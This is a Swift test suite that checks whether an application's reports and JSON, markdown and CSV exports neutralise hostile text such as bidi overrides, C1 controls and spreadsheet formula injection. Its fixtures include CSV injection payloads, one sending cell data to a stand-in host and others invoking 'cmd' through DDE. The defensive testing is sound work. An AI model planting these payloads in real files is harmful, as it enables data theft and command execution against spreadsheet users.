import CSV
import Foundation
import Testing

@testable import GreenSilkCore

/// Data text in the files the commands write (issue 17): reports show
/// bidi and C1 controls as visible pictures, JSON escapes them, markdown
/// escapes what it must, and CSV cells never start a spreadsheet formula —
/// while exports stay lossless. (Uses only the API the commands use, so
/// each test also shows what the code before the fix did.)
@Suite struct TextSafetyTests {
  /// U+202E RIGHT-TO-LEFT OVERRIDE (shows "exe.gnp" as "png.exe"), U+2066
  /// LEFT-TO-RIGHT ISOLATE, the C1 controls CSI and OSC, and an ampersand.
  static let hostileTitle = "Invoice \u{202E}gnp.exe\u{202C} \u{2066}x\u{2069} \u{9B}31m\u{9D} R&D &amp; co"

  /// The raw UTF-8 of the characters that must not appear in any output.
  static let forbidden: [[UInt8]] = [
    Array("\u{202E}".utf8), Array("\u{202C}".utf8), Array("\u{2066}".utf8), Array("\u{2069}".utf8),
    Array("\u{9B}".utf8), Array("\u{9D}".utf8),
  ]

  func expectNoHidden(_ text: String, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
    let bytes = Array(text.utf8)
    for needle in Self.forbidden {
      let found = bytes.indices.contains { bytes[$0...].starts(with: needle) }
      #expect(!found, "\(what) holds U+\(String(String(decoding: needle, as: UTF8.self).unicodeScalars.first!.value, radix: 16)) raw", sourceLocation: sourceLocation)
    }
  }

  func hostileReport() throws -> ReportDocument {
    let dir = try TempDataDirectory()
    var data = try dir.store.load().dataSet
    var project = try #require(data.project(id: "P-0002"))
    project.title = Self.hostileTitle
    project.stage = .implementation
    project.screening.climate = .significantIrreversible  // a red light: the title is listed
    data.upsert(project)
    return ReportBuilder.build(data, audit: [], options: ReportOptions(asOf: Day("2026-11-20")!))
  }

  @Test func reportsShowBidiAndC1ControlsAsPictures() throws {
    let document = try hostileReport()
    let text = TextReportRenderer.text(document)
    let markdown = TextReportRenderer.markdown(document)
    let html = HTMLReportRenderer.html(document)
    expectNoHidden(text, "the text report")
    expectNoHidden(markdown, "the markdown report")
    expectNoHidden(html, "the HTML report")
    #expect(text.contains("Invoice ␦gnp.exe␦ ␦x␦ ␦31m␦ R&D &amp; co"))
    #expect(html.contains("Invoice ␦gnp.exe␦ ␦x␦ ␦31m␦ R&amp;D &amp;amp; co"))
    // Markdown: `&` escaped, so "&amp;" stays five characters when rendered.
    #expect(markdown.contains("Invoice ␦gnp.exe␦ ␦x␦ ␦31m␦ R\\&D \\&amp; co"))
  }

  @Test func markdownEscapesWhatItsFormatNeeds() {
    #expect(TextReportRenderer.escape("R&D &amp; co") == "R\\&D \\&amp; co")
    #expect(TextReportRenderer.escape("- not a list item") == "\\- not a list item")
    #expect(TextReportRenderer.escape("+ nor this") == "\\+ nor this")
    #expect(TextReportRenderer.escape("2024. Not an ordered list") == "2024\\. Not an ordered list")
    #expect(TextReportRenderer.escape("    not a code block") == "not a code block")
    #expect(TextReportRenderer.escape("~~struck~~ $x$") == "\\~\\~struck\\~\\~ \\$x\\$")
    #expect(TextReportRenderer.escape("C# ends a heading #") == "C\\# ends a heading \\#")
  }

  @Test func jsonReportEscapesBidiAndC1Controls() throws {
    let json = JSONReportRenderer.json(try hostileReport())
    expectNoHidden(json, "the JSON report")
    #expect(json.contains(#"Invoice \u202egnp.exe\u202c \u2066x\u2069 \u009b31m\u009d R&D &amp; co"#))
  }

  @Test("JSON and JSON Lines exports escape bidi and C1 controls, and import back unchanged", arguments: [ExportFormat.json, .jsonl])
  func jsonExports(format: ExportFormat) throws {
    let dir = try ShippedDataCopy()
    var data = try dir.store.load().dataSet
    var project = try #require(data.project(id: "P-0003"))
    project.title = Self.hostileTitle
    project.summary = "line\u{2028}separator \u{7F}"
    data.upsert(project)
    let bytes = try RecordExporter.export(data.projects, format: format)
    expectNoHidden(String(decoding: bytes, as: UTF8.self), "the \(format) export")
    #expect(!bytes.contains(0x7F))
    #expect(!bytes.indices.contains { bytes[$0...].starts(with: Array("\u{2028}".utf8)) })

    // Lossless: the export of the changed data imports as exactly that change.
    let plan = try RecordImporter.plan(
      bytes: bytes, format: .json, displayPath: "in.json", data: try dir.store.load().dataSet, user: ImportFixtures.user,
      now: ImportFixtures.now)
    guard case .projects(let projects) = plan else {
      Issue.record("expected projects")
      return
    }
    #expect(projects.problems.isEmpty)
    #expect(projects.changes.count == 1)
    if let updated = projects.changes.first?.updatedRecord {
      #expect(updated.title == Self.hostileTitle)
      #expect(updated.summary == project.summary)
    } else {
      Issue.record("expected an update, got \(projects.changes)")
    }
  }

  /// Cells a spreadsheet would run as formulas (OWASP CSV injection).
  static let formulaTexts = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
  ]

  @Test func csvExportNeutralisesFormulaCellsAndImportReversesIt() throws {
    let dir = try ShippedDataCopy()
    var data = try dir.store.load().dataSet
    var edited: [Project] = []
    for (index, text) in (Self.formulaTexts + ["'quoted", "-42", "''"]).enumerated() {
      var project = data.projects[index]
      project.title = text
      project.summary = text
      project.leadAgency = text
      data.upsert(project)
      edited.append(project)
    }
    let bytes = try RecordExporter.export(data.projects, format: .csv)

    // Read as a spreadsheet would (CSV.swift), no cell starts a formula.
    let reader = try CSVReader(string: String(decoding: bytes, as: UTF8.self), hasHeaderRow: true)
    var cells: [String] = reader.headerRow ?? []
    while let row = reader.next() { cells += row }
    for cell in cells {
      if let first = cell.unicodeScalars.first, ["=", "+", "@", "\t", "\r"].contains(first) {
        Issue.record("a cell starts a formula: \(cell.debugDescription)")
      }
      if cell.hasPrefix("-") && Double(cell) == nil { Issue.record("a cell starts a formula: \(cell.debugDescription)") }
    }
    // A negative number stays a number.
    #expect(cells.contains("-42"))

    // The round trip is exact: the export of the edited data imports into
    // the original data as exactly the edits, and then changes nothing.
    let plan = try planProjects(bytes, into: dir.store)
    #expect(plan.problems.isEmpty, "\(plan.problems.prefix(3))")
    #expect(plan.changes.count == edited.count)
    for project in edited {
      let update = plan.changes.compactMap { change -> Project? in
        if let updated = change.updatedRecord, updated.id == project.id { return updated }
        return nil
      }.first
      guard let update else {
        Issue.record("no update for \(project.id)")
        continue
      }
      #expect(update.title == project.title)
      #expect(update.summary == project.summary)
      #expect(update.leadAgency == project.leadAgency)
    }
    try dir.store.write(plan)
    let again = try planProjects(bytes, into: dir.store)
    #expect(again.problems.isEmpty && again.changes.isEmpty)
  }

  func planProjects(_ bytes: [UInt8], into store: FileStore) throws -> ImportPlan<Project> {
    let plan = try RecordImporter.plan(
      bytes: bytes, format: .csv, displayPath: "in.csv", data: try store.load().dataSet, user: ImportFixtures.user,
      now: ImportFixtures.now)
    guard case .projects(let projects) = plan else { throw CocoaError(.fileReadUnknown) }
    return projects
  }
}
